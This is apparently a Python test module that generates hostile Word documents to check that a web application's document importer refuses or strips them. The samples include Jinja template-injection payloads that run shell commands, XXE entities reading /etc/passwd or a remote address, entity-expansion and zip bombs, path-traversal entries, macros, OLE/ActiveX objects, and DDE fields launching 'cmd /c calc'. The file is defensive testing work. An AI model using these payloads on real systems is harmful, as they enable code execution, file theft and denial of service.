"""Hostile Word files, made here and kept nowhere. Each says what has to become of it.

A file is either refused as a whole (the words of the sentence), or its tags are faults (the kind), or it is stripped (the
words that are told) and what it pointed to is gone from it.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from tests.small_word import MAIN, field, package, paragraph, part, rel, rels, word
from webapp.documents.faults import FaultKind
from webapp.documents.ooxml import write_package


@dataclass(frozen=True)
class Lure:
    """What a file tries to reach: an address that is listened to, and a file that must not come to be."""

    url: str
    path: str


@dataclass(frozen=True)
class Hostile:
    """One file and what has to become of it: exactly one of `refused`, `fault` and `told`."""

    name: str
    make: Callable[[Lure], bytes]
    refused: str = ""
    fault: FaultKind | None = None
    told: str = ""


_CODE = {
    "walk": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "globals": "{{ cycler.__init__.__globals__.os.system('touch PATH') }}",
    "lipsum": "{{ lipsum.__globals__['os'].popen('touch PATH').read() }}",
    "self": "{{ self._TemplateReference__context }}",
    "joiner": "{{ joiner() }}",
    "attr": "{{ a_line|attr('__class__') }}",
    "item": "{{ a_line['__class__'] }}",
    "format": "{{ a_line.format(1) }}",
    "call": "{{ a_line() }}",
    "power": "{{ 9**(9**9) }}",
    "tower": "{{ 9**9**9**9**9 }}",
    "giant": "{{ 'x'*10**9 }}",
    "add": "{{ 1 + 1 }}",
    "join": "{{ a_line ~ a_line }}",
    "list": "{{ [1, 2] }}",
    "slice": "{{ a_line[1:2] }}",
    "long": "{{ '" + "x" * 300 + "' }}",
    "number": "{{ 1" + "0" * 5000 + " }}",
    "parentheses": "{{ " + "(" * 3000 + "a_line" + ")" * 3000 + " }}",
    "range": "{% for a in range(99999) %}{% endfor %}",
    "nested": "{% for a in cases %}{% for b in cases %}{{ b.extra }}{% endfor %}{% endfor %}",
    "recursive": "{% for a in cases recursive %}{{ loop(cases) }}{% endfor %}",
    "set": "{% set x = 1 %}",
    "macro": "{% macro m() %}x{% endmacro %}",
    "include": "{% include 'PATH' %}",
    "import": "{% import 'os' as os %}",
    "from": "{% from 'os' import system %}",
    "extends": "{% extends 'PATH' %}",
    "callblock": "{% call a_line() %}{% endcall %}",
    "do": "{% do cases.append(1) %}",
    "debug": "{% debug %}",
}
_WALK = _CODE["globals"]


def _code(source: str) -> Callable[[Lure], bytes]:
    return lambda lure: word(paragraph(source.replace("PATH", lure.path).replace("&", "&amp;")))


def _in_part(name: str, kind: str) -> Callable[[Lure], bytes]:
    return lambda lure: word(
        parts={f"word/{name}.xml": (f"{MAIN}{kind}+xml", part(kind, paragraph(_WALK.replace("PATH", lure.path))))}
    )


def _entity(declared: str) -> Callable[[Lure], bytes]:
    def make(lure: Lure) -> bytes:
        text = declared.replace("URL", lure.url)
        page = package(paragraph("&lol;"))["word/document.xml"]
        return write_package(package() | {"word/document.xml": f"<!DOCTYPE d [{text}]>".encode() + page})

    return make


def _field(*pieces: str) -> Callable[[Lure], bytes]:
    return lambda lure: word(field(*(piece.replace("URL", lure.url) for piece in pieces)))


def _related(kind: str, target: str, element: str = "", *, external: bool = False) -> Callable[[Lure], bytes]:
    return lambda lure: word(
        paragraph("A form") + element, links=rel("rId9", kind, target.replace("URL", lure.url), external=external)
    )


def _settings(element: str, kind: str) -> Callable[[Lure], bytes]:
    return lambda lure: word(
        parts={
            "word/settings.xml": (f"{MAIN}settings+xml", part("settings", element)),
            "word/_rels/settings.xml.rels": ("", rels(rel("rId9", kind, f"{lure.url}/evil.dotm", external=True))),
        }
    )


def _with(name: str, kind: str, data: bytes) -> Callable[[Lure], bytes]:
    return lambda lure: word(parts={name: (kind, data.replace(b"URL", lure.url.encode()))})


def _zip(change: Callable[[zipfile.ZipFile], None]) -> Callable[[Lure], bytes]:
    def make(_: Lure) -> bytes:
        out = io.BytesIO(word())
        with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
            change(archive)
        return out.getvalue()

    return make


def _many_parts(archive: zipfile.ZipFile) -> None:
    for number in range(3000):
        archive.writestr(f"word/media/{number}.png", b"")


def _twin(archive: zipfile.ZipFile) -> None:
    archive.writestr("Word/Document.xml", b"<a/>")


def _patched(old: bytes, new: bytes, *, everywhere: bool = True) -> Callable[[Lure], bytes]:
    """A file with some bytes of its directory changed."""
    return lambda _: word().replace(old, new, -1 if everywhere else 1)


def _encrypted(_: Lure) -> bytes:
    data = bytearray(word())
    begin = data.index(b"PK\1\2")
    data[6:8] = struct.pack("<H", 1)
    data[begin + 8 : begin + 10] = struct.pack("<H", 1)
    return bytes(data)


def _lying_size(_: Lure) -> bytes:
    """Forty megabytes that say they are ten bytes."""
    out = io.BytesIO(word())
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/big.xml", b"<" * 39_000_000)
    return out.getvalue().replace(struct.pack("<L", 39_000_000), struct.pack("<L", 10))


def _wrong_crc(_: Lure) -> bytes:
    body = package()["word/document.xml"]
    return word().replace(struct.pack("<L", zlib.crc32(body)), struct.pack("<L", zlib.crc32(body) ^ 1))


def _overlapping(_: Lure) -> bytes:
    """Entries whose compressed bytes are the headers of those that follow, and one kernel for all of them."""
    kernel = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = kernel.compress(b"a" * 1_000_000) + kernel.flush()
    local = struct.Struct("<4s5H3L2H")
    entries, data = [], b""
    crc = zlib.crc32(b"a" * 1_000_000)
    for number in range(30):
        name = f"word/media/{number:02}.png".encode()
        entries.append((name, len(data)))
        data += local.pack(b"PK\3\4", 20, 0, 8, 0, 33, crc, 0, 1_000_000, len(name), 0) + name
    end = len(data) + len(packed)
    directory = b""
    for name, begin in entries:
        size = end - begin - 30 - len(name)
        directory += (
            struct.pack(
                "<4s6H3L5H2L", b"PK\1\2", 20, 20, 0, 8, 0, 33, crc, size, 1_000_000, len(name), 0, 0, 0, 0, 0, begin
            )
            + name
        )
    closing = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 30, 30, len(directory), end, 0)
    return data + packed + directory + closing


def _zip64(_: Lure) -> bytes:
    """A part that says in zip64 that it has four exabytes."""
    out = io.BytesIO(word())
    with zipfile.ZipFile(out, "a") as archive:
        info = zipfile.ZipInfo("word/big.xml")
        info.extra = struct.pack("<HHQQ", 1, 16, 2**62, 2**62)
        archive.writestr(info, b"<a/>")
    data = bytearray(out.getvalue())
    begin = data.rindex(b"word/big.xml") - 46
    data[begin + 20 : begin + 28] = b"\xff" * 8
    return bytes(data)


def _deep(_: Lure) -> bytes:
    return word("<w:sdt><w:sdtContent>" * 3000 + paragraph("x") + "</w:sdtContent></w:sdt>" * 3000)


_LAUGHS = '<!ENTITY a "lol">' + "".join(
    f'<!ENTITY {name} "{f"&{before};" * 10}">' for before, name in zip("abcdefgh", [*"bcdefgh", "lol"], strict=True)
)
_PICTURE = (
    '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="9" cy="9"/><wp:docPr id="1" name="p"/><a:graphic><a:graphicData '
    'uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:blipFill><a:blip r:link="rId9"/>'
    "</pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
)
_OBJECT = '<w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" r:id="rId9"/></w:object></w:r></w:p>'
_UI = "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility"
_SVG = b'<svg xmlns="http://www.w3.org/2000/svg">%s</svg>'


def hostile() -> Iterator[Hostile]:
    """All of them."""
    for name, source in _CODE.items():
        kind = FaultKind.UNKNOWN_FILTER if name == "attr" else FaultKind.FORBIDDEN_CODE
        yield Hostile(f"code_{name}", _code(source), fault=kind)
    forbidden = FaultKind.FORBIDDEN_CODE
    for name, kind in (("header1", "hdr"), ("footer1", "ftr"), ("footnotes", "footnotes"), ("comments", "comments")):
        types = {"hdr": "header", "ftr": "footer"}
        made = _in_part(name, kind)
        yield Hostile(
            f"code_in_{name}",
            lambda lure, m=made, k=kind, t=types: m(lure) if k not in t else _renamed(m(lure), k, t[k]),
            fault=forbidden,
        )
    split = _WALK.replace("__init__", "__in</w:t></w:r><w:r><w:rPr><w:b/></w:rPr><w:t>it__")
    yield Hostile("code_over_runs", _code(split), fault=forbidden)
    content = f"<v:textbox><w:txbxContent>{paragraph(_WALK)}</w:txbxContent></v:textbox>"
    box = f"<w:p><w:r><w:pict><v:shape>{content}</v:shape></w:pict></w:r></w:p>"
    yield Hostile("code_in_a_text_box", lambda _: word(box), fault=forbidden)
    attribute = paragraph("x").replace("<w:p>", '<w:p w:rsidR="{{ a_line.__class__ }}">')
    yield Hostile("code_in_an_attribute", lambda _: word(attribute), fault=FaultKind.CANNOT_BE_FILLED)
    comment = "{<!-- -->{ a_line.__class__ }}"
    yield Hostile("code_round_a_comment", _code(comment), fault=forbidden)
    yield Hostile("an_answer_as_a_field", _field("{", " {{ a_line }} ", "}"), fault=FaultKind.NOT_FILLED_HERE)
    simple = '<w:p><w:fldSimple w:instr="{{ a_line }}"/></w:p>'
    yield Hostile("an_answer_as_a_simple_field", lambda _: word(simple), fault=FaultKind.NOT_FILLED_HERE)
    chart = ("application/vnd.openxmlformats-officedocument.drawingml.chart+xml", f"<c>{_WALK}</c>".encode())
    yield Hostile(
        "code_in_a_chart", lambda _: word(parts={"word/charts/c.xml": chart}), fault=FaultKind.NOT_FILLED_HERE
    )
    core = b'<c xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>{{ a_line.__class__ }}</dc:title></c>'
    properties = "application/vnd.openxmlformats-package.core-properties+xml"
    yield Hostile("code_in_the_title", _with("docProps/core.xml", properties, core), fault=FaultKind.CANNOT_BE_FILLED)
    yield Hostile("thirty_thousand_tags", lambda _: word(paragraph("{{ a_line }}" * 30_000)), refused="more tags than")
    yield from _sizes()
    yield from _zips()
    yield from _active()
    yield from _stripped()


def _renamed(data: bytes, kind: str, name: str) -> bytes:
    """Headers have another word for their element than for their content type."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts = {n: archive.read(n) for n in archive.namelist()}
    types = parts["[Content_Types].xml"].replace(f".{kind}+xml".encode(), f".{name}+xml".encode())
    return write_package(parts | {"[Content_Types].xml": types})


def _sizes() -> Iterator[Hostile]:
    yield Hostile("deep_elements", _deep, refused="not sound XML")
    yield Hostile("paragraphs", lambda _: word("<w:p/>" * 60_000), refused="tens of thousands of paragraphs")
    yield Hostile("elements", lambda _: word("<w:r/>" * 900_000), refused="hundreds of thousands of parts")
    yield Hostile("a_long_text", lambda _: word(paragraph("x" * 2_000_000)), refused="a million characters")
    attribute = paragraph("x").replace("<w:p>", f'<w:p w:rsidR="{"x" * 2_000_000}">')
    yield Hostile("a_long_attribute", lambda _: word(attribute), refused="a million characters")
    yield Hostile("laughs", _entity(_LAUGHS), refused="document type")
    yield Hostile("a_file_as_entity", _entity('<!ENTITY lol SYSTEM "file:///etc/passwd">'), refused="document type")
    yield Hostile("an_address_as_entity", _entity('<!ENTITY lol SYSTEM "URL/e">'), refused="document type")
    yield Hostile(
        "parameter_entity", _entity('<!ENTITY % p SYSTEM "URL/p"> %p;<!ENTITY lol "x">'), refused="document type"
    )
    strict = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    page = package()["word/document.xml"].replace(strict.encode(), b"http://purl.oclc.org/ooxml/wordprocessingml/main")
    yield Hostile("strict", lambda _: write_package(package() | {"word/document.xml": page}), refused="Strict")
    broken = package()["word/document.xml"][:-9]
    yield Hostile(
        "broken_xml", lambda _: write_package(package() | {"word/document.xml": broken}), refused="not sound XML"
    )


def _zips() -> Iterator[Hostile]:
    yield Hostile("a_bomb", _zip(lambda a: a.writestr("word/big.xml", b"\0" * 41_000_000)), refused="too large")
    yield Hostile("a_dense_bomb", _zip(lambda a: a.writestr("word/big.xml", b"\0" * 20_000_000)), refused="too large")
    yield Hostile("a_bomb_that_lies", _lying_size, refused="too large")
    yield Hostile("overlapping_parts", _overlapping, refused="lie in each other")
    yield Hostile("three_thousand_parts", _zip(_many_parts), refused="too large")
    yield Hostile("zip64", _zip64, refused="lie in each other")
    yield Hostile("a_password", _encrypted, refused="password")
    yield Hostile("an_old_file", lambda _: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 5000, refused="old Word file")
    yield Hostile("wrong_checksum", _wrong_crc, refused="not a Word file")
    yield Hostile("cut_off", lambda _: word()[:-300], refused="not a Word file")
    yield Hostile("nothing", lambda _: b"", refused="nothing in it")
    yield Hostile("a_page_of_the_web", lambda _: b"<html>x</html>", refused="as a browser shows it")
    yield Hostile("a_program_before_it", lambda _: b"MZ" + b"\0" * 500 + word(), refused="not a Word file")
    yield Hostile("twins_by_capitals", _zip(_twin), refused="two parts of one name")
    for name, path in (
        ("up", "../evil.xml"),
        ("deep_up", "word/../../evil.xml"),
        ("root", "/evil.xml"),
        ("drive", "c:/evil.xml"),
    ):
        yield Hostile(f"leads_out_{name}", _zip(lambda a, p=path: a.writestr(p, b"<a/>")), refused="leads out")
    yield Hostile("leads_out_back", _patched(b"_rels/.rels", b"_rels\\.rels"), refused="leads out")
    yield Hostile("a_hidden_name", _patched(b"_rels/.rels", b"_rels/.\0els"), refused="leads out")
    yield Hostile(
        "two_directories", _patched(b"_rels/.rels", b"_rels/.relz", everywhere=False), refused="not a Word file"
    )


def _active() -> Iterator[Hostile]:
    yield Hostile(
        "macros", _with("word/vbaProject.bin", "application/vnd.ms-office.vbaProject", b"x"), refused="macros"
    )
    yield Hostile("macros_by_name", _with("word/VbaProject.bin", "", b"x"), refused="macros")
    yield Hostile("macros_by_type", lambda _: word(kind="x").replace(b"", b""), refused="not a Word document")
    enabled = package()["[Content_Types].xml"].replace(
        f"{MAIN}document.main+xml".encode(), b"application/vnd.ms-word.document.macroEnabled.main+xml"
    )
    yield Hostile("macros_on", lambda _: write_package(package() | {"[Content_Types].xml": enabled}), refused="macros")
    ole = "application/vnd.openxmlformats-officedocument.oleObject"
    yield Hostile("an_object", _with("word/embeddings/o.bin", ole, b"x"), refused="object of another program")
    yield Hostile("an_object_on_the_page", _related("x", "media/o.bin", _OBJECT), refused="object of another program")
    yield Hostile("a_linked_object", _related("oleObject", "URL/o", external=True), refused="object of another program")
    yield Hostile("a_file_inside", _related("package", "media/o.bin"), refused="object of another program")
    yield Hostile(
        "activex", _with("word/activeX/a.xml", "application/vnd.ms-office.activeX+xml", b"<a/>"), refused="ActiveX"
    )
    control = paragraph("x").replace("</w:r>", '<w:object><w:control r:id="rId9"/></w:object></w:r>')
    yield Hostile("a_control", lambda _: word(control), refused="ActiveX")
    yield Hostile("a_page_inside", _with("word/chunk.html", "text/html", b"<html/>"), refused="another document inside")
    chunk = '<w:altChunk r:id="rId9"/>'
    yield Hostile(
        "an_alternative", _related("aFChunk", "URL/c", chunk, external=True), refused="another document inside"
    )
    yield Hostile(
        "a_part_of_a_master",
        _related("subDocument", "URL/s", '<w:subDoc r:id="rId9"/>', external=True),
        refused="another document inside",
    )
    yield Hostile("buttons", _with("customUI/customUI.xml", "application/xml", b"<a/>"), refused="buttons of its own")
    yield Hostile("buttons_by_relation", _related(_UI, "x.xml"), refused="buttons of its own")
    yield Hostile("a_program", _with("word/media/evil.exe", "image/png", b"MZ"), refused="another kind (.exe)")
    for name, pieces in {
        "dde": ("{", ' DDE "cmd" "/c calc" ', "}"),
        "ddeauto_over_runs": ("{", " DD", "EAU", "TO c:\\\\x ", "}"),
        "includetext": ("{", ' INCLUDETEXT "URL/t" ', "}"),
        "includepicture": ("{", ' INCLUDEPICTURE "URL/p.png" \\d ', "}"),
        "link": ("{", " LINK Excel.Sheet URL ", "}"),
        "import": ("{", " import URL ", "}"),
        "macrobutton": ("{", " MACROBUTTON AutoOpen press ", "}"),
        "inside_another": ("{", ' IF 1 = 1 "', "{", " INCLUDETEXT URL ", "}", '" ', "}"),
        "never_ended": ("{", " DDEAUTO x "),
        "quoted": ("{", ' "DDEAUTO" x ', "}"),
    }.items():
        yield Hostile(f"field_{name}", _field(*pieces), refused="may fetch or run")
    made = ("{", " DDE", "{", " QUOTE 65 85 84 79 ", "|", "}", " x ", "}")
    yield Hostile("field_made_by_fields", _field(*made), refused="may fetch or run")
    whole = ("{", "{", " QUOTE 68 68 69 ", "}", " x ", "}")
    yield Hostile("field_named_by_a_field", _field(*whole), refused="whose name another field makes")
    yield Hostile(
        "field_simple", lambda _: word('<w:p><w:fldSimple w:instr="DDEAUTO x"/></w:p>'), refused="may fetch or run"
    )
    yield Hostile("an_unknown_link", _related("somethingNew", "URL/x", external=True), refused="fetches something")
    other = rels(rel("rId1", "officeDocument", "word/other.xml"))
    yield Hostile(
        "another_page", lambda _: write_package(package() | {"_rels/.rels": other}), refused="not a Word document"
    )
    yield Hostile("svg_script", _with("word/media/a.svg", "image/svg+xml", _SVG % b"<script/>"), refused="ActiveX")


def _stripped() -> Iterator[Hostile]:
    yield Hostile(
        "a_remote_template", _settings('<w:attachedTemplate r:id="rId9"/>', "attachedTemplate"), told="template"
    )
    merge = '<w:mailMerge><w:dataSource r:id="rId9"/></w:mailMerge>'
    yield Hostile("a_remote_list", _settings(merge, "mailMergeSource"), told="list of addresses")
    yield Hostile("a_remote_sheet", _settings('<w:saveThroughXslt r:id="rId9"/>', "transform"), told="saved otherwise")
    yield Hostile("a_remote_picture", _related("image", "URL/p.png", _PICTURE, external=True), told="picture")
    vml = '<w:p><w:r><w:pict><v:shape><v:imagedata src="URL/v.png"/></v:shape></w:pict></w:r></w:p>'
    yield Hostile("an_old_remote_picture", lambda lure: word(vml.replace("URL", lure.url)), told="picture")
    link = '<w:p><w:hyperlink r:id="rId9"><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p>'
    yield Hostile(
        "a_link_to_a_share", _related("hyperlink", "file://server/share", link, external=True), told="link to a file"
    )
    yield Hostile(
        "a_link_of_script", _related("hyperlink", "javascript:x()", link, external=True), told="link to a file"
    )
    image = _SVG % b'<image href="URL/s.png"/>'
    yield Hostile("svg_address", _with("word/media/a.svg", "image/svg+xml", image), told="picture")
    frames = {
        "word/webSettings.xml": (
            f"{MAIN}webSettings+xml",
            part("webSettings", '<w:frameset><w:frame><w:sourceFileName r:id="rId9"/></w:frame></w:frameset>'),
        ),
        "word/_rels/webSettings.xml.rels": ("", rels(rel("rId9", "frame", "http://x.example/f", external=True))),
    }
    yield Hostile("frames", lambda _: word(parts=frames), told="frames")
